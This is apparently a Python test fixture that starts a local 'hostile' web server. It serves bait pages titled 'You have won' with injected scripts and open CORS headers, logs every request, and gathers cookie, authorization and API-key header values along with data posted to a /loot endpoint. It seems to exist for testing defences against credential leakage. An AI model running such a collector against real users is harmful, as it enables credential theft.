"""A hostile web server on this machine, at another port of the host that the user's browser visits."""

from __future__ import annotations

import itertools
from types import TracebackType
from typing import Self

from tests.http_server import HttpServer, Request, Response

__all__ = ["Hostile"]

OPEN = (
    "Access-Control-Allow-Origin: *",
    "Access-Control-Allow-Headers: *",
    "Access-Control-Allow-Methods: *",
    "Cache-Control: no-store",
)
PAGE = "<!doctype html><meta charset=utf-8><title>You have won</title><body>{body}<script>{script}</script>"
CREDENTIALS = ("cookie", "authorization", "x-api-key")


class Hostile:
    """Hostile web server that records every request, and answers with a page made by `page`, else with an empty 200."""

    def __init__(self) -> None:
        self._pages: dict[str, bytes] = {}
        self._numbers = itertools.count(1)
        self._server = HttpServer(self._answer)
        self.url = self._server.url

    @property
    def requests(self) -> list[Request]:
        return self._server.requests

    @property
    def loot(self) -> list[str]:
        """Credentials that it has collected: the values of all headers that hold them, and the bodies that its pages
        have sent to `/loot`."""
        headers = [value for one in self.requests for name, value in one.headers if name.lower() in CREDENTIALS]
        return headers + [one.body.decode("utf-8", "replace") for one in self.requests if one.target == "/loot"]

    def page(self, script: str = "", body: str = "", *, host: str = "127.0.0.1") -> str:
        """Return the address of a new page with this body, and this script at its end. `host`: a name of this machine.

        The script reports what it gets with `fetch("/loot", {method: "POST", body: …})`.
        """
        path = f"/page-{next(self._numbers)}"
        self._pages[path] = PAGE.format(body=body, script=script).encode()
        return self.at(path, host=host)

    def at(self, path: str, *, host: str = "127.0.0.1") -> str:
        return f"{self.url.replace('127.0.0.1', host)}{path}"

    def _answer(self, request: Request, response: Response) -> None:
        page = self._pages.get(request.target.partition("?")[0], b"")
        kind = "text/html; charset=utf-8" if page else "text/plain"
        response.whole(200, page, f"Content-Type: {kind}", *OPEN)

    def __enter__(self) -> Self:
        self._server.__enter__()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._server.__exit__(kind, error, trace)
